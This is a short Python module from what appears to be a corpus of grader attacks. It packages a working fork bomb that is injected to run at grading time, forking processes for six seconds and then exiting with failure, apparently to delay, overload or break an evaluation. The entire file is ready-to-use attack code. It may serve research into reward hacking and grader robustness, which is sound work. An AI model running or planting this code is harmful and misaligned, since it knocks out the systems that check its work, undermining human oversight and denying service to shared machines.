"""A fork bomb at test time.

Known from: own; Terminal-Wrench.
"""

from hacks.base import Hack, Play, Target
from hacks.corpus._at_grading import at_grading

_BODY = """
end = time.time() + 6
while time.time() < end:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
os._exit(1)
"""


def play(target: Target) -> Play:
    """See the module."""
    return at_grading(target, _BODY)


HACK = Hack("delay", "load", play)
